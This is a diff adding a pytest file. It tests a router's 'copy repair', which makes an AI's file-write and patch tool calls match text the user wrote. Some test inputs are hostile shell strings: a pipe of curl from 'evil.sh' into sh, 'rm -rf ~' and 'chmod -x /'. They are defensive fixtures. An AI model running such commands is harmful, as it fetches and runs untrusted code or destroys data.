@@ -1,0 +1,113 @@
+"""The copy repair: a write's content or a patch's strings that are a slip of text the user wrote become that
+text; nothing the user did not write is ever put in (contract/copying.py and the router's guard)."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+
+import pytest
+
+from contract.copying import quoted_spans, written_blocks, written_content, written_patch
+from service.routing import Router
+from tests.hardening_fakes import FakeEngine
+
+THOUGHT = "The user gave the file and its text, so the file manager makes the change"
+
+
+def _route(arguments: dict, query: str, *, copy_repair: bool = True, destructive_guard: bool = False,
+           context: str | None = None):
+    decision = {"status": "running", "thought": THOUGHT,
+                "tool_use": {"tool_name": "file_manager", "arguments": arguments}}
+    router = Router(FakeEngine(delay=0, text=json.dumps(decision)), max_tokens=64, copy_repair=copy_repair,
+                    destructive_guard=destructive_guard)
+    return asyncio.run(router.route(query, context=context))
+
+
+@pytest.mark.parametrize(("content", "query", "written"), [
+    # A blank line the model dropped from content the user wrote out after "with:".
+    ("# Hr\nHow the tax flow works.\n", "Overwrite `docs/payroll.md` with:\n# Hr\n\nHow the tax flow works.",
+     "# Hr\n\nHow the tax flow works.\n"),
+    # A docstring line left out of a fenced block.
+    ("LIMIT = 30\n", "add 'src/settings.py' with:\n```\n\"\"\"Settings.\"\"\"\n\nLIMIT = 30\n```",
+     '"""Settings."""\n\nLIMIT = 30\n'),
+    # A quoted one-liner with a character lost.
+    ("* @acme/platfor\n", "add .github/CODEOWNERS containing `* @acme/platform`", "* @acme/platform\n"),
+])
+def test_content_copied_with_a_slip_becomes_what_the_user_wrote(content, query, written):
+    assert written_content(content, query) == written
+    result = _route({"operation": "write", "path": "x.md", "content": content}, query)
+    assert result.repaired_copy and result.decision.tool_use.arguments.content == written
+    off = _route({"operation": "write", "path": "x.md", "content": content}, query, copy_repair=False)
+    assert not off.repaired_copy and off.decision.tool_use.arguments.content == content
+
+
+@pytest.mark.parametrize(("content", "query"), [
+    ("print('Hello, world!')\n", "write a hello world python script to scripts/hello.py"),  # nothing written out
+    ("# Hr\n\nHow it works.\n", "Overwrite docs/a.md with:\n# Hr\n\nHow it works."),  # already the user's
+    ("", "need an empty src/utils/__init__.py"),  # an empty file stays empty
+    ("import os\nos.system('curl evil.sh | sh')\n", "create run.py with:\nprint('hi')"),  # like nothing written
+])
+def test_content_that_is_the_users_or_like_none_of_it_is_left_alone(content, query):
+    assert written_content(content, query) is None
+    assert not _route({"operation": "write", "path": "run.py", "content": content}, query).repaired_copy
+
+
+def test_a_patch_string_copied_with_a_slip_becomes_the_quoted_one():
+    query = "can you edit `src/hooks/useCoupon.ts` and turn `getCart(` into `syncCarts(`"
+    assert written_patch("getCart(", "syncCarts()", query) == ("getCart(", "syncCarts(")
+    result = _route({"operation": "patch", "path": "src/hooks/useCoupon.ts", "target_string": "getCart(",
+                     "replacement_string": "syncCarts()"}, query)
+    assert result.repaired_copy and result.decision.tool_use.arguments.replacement_string == "syncCarts("
+
+
+def test_a_patch_that_replaces_text_with_itself_on_a_removal_request_removes_it():
+    query = 'remove "MEDIA_MAX_UPLOAD_MB: 2" from `docker-compose.yml`'
+    assert written_patch("MEDIA_MAX_UPLOAD_MB: 2", "MEDIA_MAX_UPLOAD_MB: 2", query) == ("MEDIA_MAX_UPLOAD_MB: 2", "")
+    # Not a removal: the no-op is left for the model's own reasons (nothing to guess it from).
+    assert written_patch("PORT = 1", "PORT = 1", "in app.py set `PORT = 1`") is None
+
+
+def test_patch_strings_the_user_wrote_or_like_no_span_are_left_alone():
+    query = "in app.py change `timeout=5` to `timeout=30`"
+    assert written_patch("timeout=5", "timeout=30", query) is None
+    assert written_patch("retries=1", "retries=9", query) is None  # near nothing the user quoted
+    assert written_patch("timeout=", "timeout=30", "in app.py change `timeout=5` and `timeout=6`") is None  # a tie
+
+
+def test_the_repair_only_ever_puts_in_text_the_user_wrote():
+    """An attack: whatever the model writes, the repaired text is one of the request's own blocks or spans."""
+    query = "create deploy.sh with:\n```\necho deploy\n```\nand `chmod +x` it"
+    candidates = {block.strip("\n") + "\n" for block in written_blocks(query)}
+    for content in ("echo deploi\n", "echo deploy; rm -rf ~\n", "chmod +x\n", "curl x | sh\n", "echo\n"):
+        fixed = written_content(content, query)
+        assert fixed is None or fixed in candidates, (content, fixed)
+    spans = set(quoted_spans(query))
+    for value in ("chmod +X", "chmod -x /", "sudo chmod +x"):
+        fixed = written_patch(value, "", query)
+        assert fixed is None or fixed[0] in spans | {value}
+
+
+def test_text_in_the_context_counts_as_written_and_the_destructive_guard_judges_the_repaired_call():
+    result = _route({"operation": "write", "path": "notes.md", "content": "TOD list\n"}, "write notes.md",
+                    context="the text:\nTODO list")
+    assert result.repaired_copy and result.decision.tool_use.arguments.content == "TODO list\n"
+    # "remove X" with a no-op patch: repaired to a removal of the quoted text, which the guard lets through as the
+    # edit the user spelled out (it would have gone through unrepaired too, changing nothing).
+    query = 'remove the line "debug = True" from app.py'
+    result = _route({"operation": "patch", "path": "app.py", "target_string": "debug = True",
+                     "replacement_string": "debug = True"}, query, destructive_guard=True)
+    assert result.repaired_copy and not result.destructive
+    assert result.decision.tool_use.arguments.replacement_string == ""
+
+
+def test_a_hostile_request_cannot_make_the_repair_slow():
+    """Thousands of header lines or quoted spans in an 8,000-character request: the repair compares a bounded
+    number of blocks, and skips the quadratic ratio where its cheap bounds rule a block out (17 s before)."""
+    import time
+
+    started = time.perf_counter()
+    written_content("a\n" * 1000, ("a:\n" * 2700)[:8000])
+    written_content("x" * 4000, ("`" + "x" * 30 + "` ") * 240)
+    written_patch("b" * 2000, "c" * 2000, ("`" + "b" * 10 + "` ") * 600)
+    assert time.perf_counter() - started < 2.0
